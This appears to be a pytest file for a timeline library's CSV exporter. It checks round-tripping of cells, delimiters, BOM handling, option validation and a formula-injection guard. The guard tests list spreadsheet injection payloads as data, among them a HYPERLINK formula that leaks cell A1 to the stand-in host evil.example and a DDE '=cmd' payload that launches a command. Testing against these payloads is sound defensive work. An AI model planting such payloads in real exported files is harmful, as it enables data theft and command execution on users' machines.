"""The ``csv`` exporter: read back with csv.reader / DictReader and compared cell by cell, options, guard."""

from __future__ import annotations

import codecs
import csv
import io
import re
from datetime import datetime
from decimal import Decimal
from typing import TYPE_CHECKING

import pytest
from csv_support import SETTINGS, T0, occurrence_lists, records, timeline_of
from hypothesis import given
from timeline_csv import COLUMNS, CsvExporter

from timeline import (
    Correction,
    Entry,
    Event,
    Meeting,
    Money,
    Occurrence,
    Payment,
    Quantity,
    Retraction,
    Source,
    Timeline,
    Transfer,
    ValidationError,
    When,
)

if TYPE_CHECKING:
    from collections.abc import Sequence

_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_DECIMAL = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def _export_bytes(tl: Timeline, **options: str) -> bytes:
    out = io.BytesIO()
    CsvExporter().export(tl, out, options)
    return out.getvalue()


def _rows(events: Sequence[Event], *, sep: str = ",", **options: str) -> list[list[str]]:
    text = _export_bytes(timeline_of(events), **options).decode("utf-8")  # strict UTF-8
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep, strict=True))


def _expect(entry: Entry, row: dict[str, str]) -> None:
    """Check each cell of `row` against `entry`, computed here from the event's own fields."""
    event = entry.event
    when = event.when
    assert row["id"] == entry.id
    assert row["type"] == event.TYPE
    assert When.parse(row["date"]) == when
    assert row["earliest"] == ("" if when.earliest is None else f"{when.earliest:%Y-%m-%d}")
    assert row["latest"] == ("" if when.latest is None else f"{when.latest:%Y-%m-%d}")
    assert row["precision"] == {1: "year", 2: "month", 3: "day", 4: "time"}[int(when.precision)]
    assert row["human_date"] == when.human()
    assert row["title"] == (event.title or event.summary())
    assert row["description"] == (event.description or "")
    assert row["place"] == (event.place or "")
    assert row["actors"] == "\n".join(event.involved())
    money = event.amount if isinstance(event, Payment) else None
    count = event.count if isinstance(event, Transfer) else None
    if money is None:
        assert (row["amount"], row["currency"], row["amount_approximate"]) == ("", "", "")
    else:
        assert _PLAIN_DECIMAL.fullmatch(row["amount"]), row["amount"]  # no exponent, no float
        assert Decimal(row["amount"]) == money.value
        assert row["currency"] == money.currency
        assert row["amount_approximate"] == str(money.approximate).lower()
    if count is None:
        assert (row["count"], row["count_approximate"]) == ("", "")
    else:
        assert int(row["count"]) == count.value
        assert row["count_approximate"] == str(count.approximate).lower()
    assert row["sources"] == "\n".join(s.url for s in event.sources if s.url)
    assert int(row["revision"]) == entry.revision
    assert datetime.fromisoformat(row["last_changed"]) == entry.last_changed


@SETTINGS
@given(occurrence_lists)
def test_every_cell_reads_back_as_written(events: list[Occurrence]) -> None:
    rows = _rows(events, safe="false")
    assert tuple(rows[0]) == COLUMNS
    entries = timeline_of(events).entries
    assert len(rows) == 1 + len(entries)
    for entry, row in zip(entries, rows[1:], strict=True):
        _expect(entry, dict(zip(COLUMNS, row, strict=True)))


@SETTINGS
@given(occurrence_lists)
def test_dict_reader_sees_the_same_table(events: list[Occurrence]) -> None:
    text = _export_bytes(timeline_of(events), safe="false").decode("utf-8")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    by_id = {event.id: event for event in events}
    for row in reader:
        assert row["description"] == (by_id[row["id"]].description or "")


@SETTINGS
@given(occurrence_lists)
def test_the_guard_prefixes_exactly_the_cells_a_spreadsheet_would_run(events: list[Occurrence]) -> None:
    raw = _rows(events, safe="false")
    guarded = _rows(events)  # safe=true is the default
    assert guarded[0] == raw[0]
    for raw_row, safe_row in zip(raw[1:], guarded[1:], strict=True):
        for before, after in zip(raw_row, safe_row, strict=True):
            number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?", before) is not None
            if before.startswith(_DANGEROUS) and not number:
                assert after == "'" + before
            else:
                assert after == before
            assert number or not after.startswith(_DANGEROUS)


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1, "Source")',
            '\'=HYPERLINK("https://evil.example/?"&A1, "Source")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+", "'+"),
        ("-5", "-5"),
        ("a=1", "a=1"),
        (" =1", " =1"),
    ],
)
def test_formula_guard_examples(title: str, cell: str) -> None:
    event = Meeting(id="m", when=When.parse("2025"), participants=("A",), title=title)
    row = dict(zip(COLUMNS, _rows([event])[1], strict=True))
    assert row["title"] == cell


def test_a_negative_amount_stays_a_number_and_amounts_never_use_exponents() -> None:
    refund = Payment(
        id="p",
        when=When.parse("2025"),
        payer="A",
        payee="B",
        amount=Money(value=Decimal("-6E+6"), currency="USD"),
    )
    row = dict(zip(COLUMNS, _rows([refund])[1], strict=True))
    assert row["amount"] == "-6000000"


def test_a_payment_row_in_full() -> None:
    payment = Payment(
        id="p1",
        when=When.parse("../2025-04-14"),
        payer="United States",
        payee="El Salvador",
        amount=Money(value=Decimal("6000000"), currency="USD", approximate=True),
        purpose="detention of deportees",
        sources=(
            Source(url="https://a.example/1"),
            Source(title="no url"),
            Source(url="https://b.example/2"),
        ),
    )
    assert _rows([payment])[1] == [
        "p1", "payment", "../2025-04-14", "", "2025-04-14", "day", "before 14 April 2025",
        "United States pays El Salvador about 6,000,000 USD for detention of deportees", "", "",
        "United States\nEl Salvador", "6000000", "USD", "true", "", "",
        "https://a.example/1\nhttps://b.example/2", "1", T0.replace(second=1).isoformat(),
    ]  # fmt: skip


def test_a_transfer_has_a_count_and_no_amount() -> None:
    transfer = Transfer(
        id="t1", when=When.parse("2025-03"), subjects="people", origin="US", destination="CECOT",
        count=Quantity(value=250, approximate=True),
    )  # fmt: skip
    row = dict(zip(COLUMNS, _rows([transfer])[1], strict=True))
    assert (row["amount"], row["currency"], row["count"], row["count_approximate"]) == ("", "", "250", "true")


def test_rows_end_with_crlf_and_line_breaks_inside_cells_are_quoted() -> None:
    event = Meeting(id="m", when=When.parse("2025"), participants=("A",), description='line 1\nline "2", end')
    data = _export_bytes(timeline_of([event]))
    assert data.startswith(b"id,type,date,")
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 2  # header and one row: the LF inside the cell is not a row end
    assert b'"line 1\nline ""2"", end"' in data


def test_bom_is_optional_and_changes_nothing_else() -> None:
    tl = timeline_of([Meeting(id="m", when=When.parse("2025"), participants=("中文 😀",))])
    plain = _export_bytes(tl)
    marked = _export_bytes(tl, bom="true")
    assert not plain.startswith(codecs.BOM_UTF8)
    assert marked == codecs.BOM_UTF8 + plain
    assert marked.decode("utf-8-sig") == plain.decode("utf-8")
    assert "中文 😀".encode() in plain


@pytest.mark.parametrize(("name", "char"), [("semicolon", ";"), ("tab", "\t"), ("comma", ",")])
def test_other_delimiters_read_back_to_the_same_table(name: str, char: str) -> None:
    events = [Meeting(id="m", when=When.parse("2025"), participants=("A; B", "C,\tD"), title="x;y,z\tw")]
    assert _rows(events, sep=char, delimiter=name) == _rows(events)


@pytest.mark.parametrize(
    ("options", "path"),
    [
        ({"sep": ";"}, "options.sep"),
        ({"bom": "maybe"}, "options.bom"),
        ({"safe": "nope"}, "options.safe"),
        ({"delimiter": "|"}, "options.delimiter"),
    ],
)
def test_bad_options_are_validation_errors_naming_the_option(options: dict[str, str], path: str) -> None:
    with pytest.raises(ValidationError) as info:
        CsvExporter().export(timeline_of([]), io.BytesIO(), options)
    assert info.value.path == path


def test_an_empty_timeline_is_just_the_header() -> None:
    assert _export_bytes(timeline_of([])) == (",".join(COLUMNS) + "\r\n").encode()


def test_big_timelines_are_written_whole_across_chunks() -> None:
    events = [
        Meeting(
            id=f"m{i:04d}", when=When.parse("2025-03"), participants=("A",), description="é" * 400 + "\n=x"
        )
        for i in range(400)
    ]
    rows = _rows(events)
    assert [row[0] for row in rows[1:]] == [f"m{i:04d}" for i in range(400)]
    assert all(row[8] == "é" * 400 + "\n=x" for row in rows[1:])


def test_corrections_and_retractions() -> None:
    events: list[Event] = [
        Meeting(id="m1", when=When.parse("2025-03"), participants=("A",), title="old"),
        Meeting(id="m2", when=When.parse("2025-04"), participants=("B",)),
        Correction(id="c1", target="m1", changes={"title": "new"}, reason="typo"),
        Retraction(id="r1", target="m2", reason="withdrawn"),
    ]
    rows = _rows(events)
    assert len(rows) == 2
    row = dict(zip(COLUMNS, rows[1], strict=True))
    assert (row["id"], row["title"], row["revision"]) == ("m1", "new", "2")
    assert datetime.fromisoformat(row["last_changed"]) == T0.replace(second=3)
    shown = Timeline.from_records(records(events), include_retracted=True)
    assert len(shown.entries) == 2
    assert len(_export_bytes(shown).splitlines()) == 2  # the retracted entry still stays out
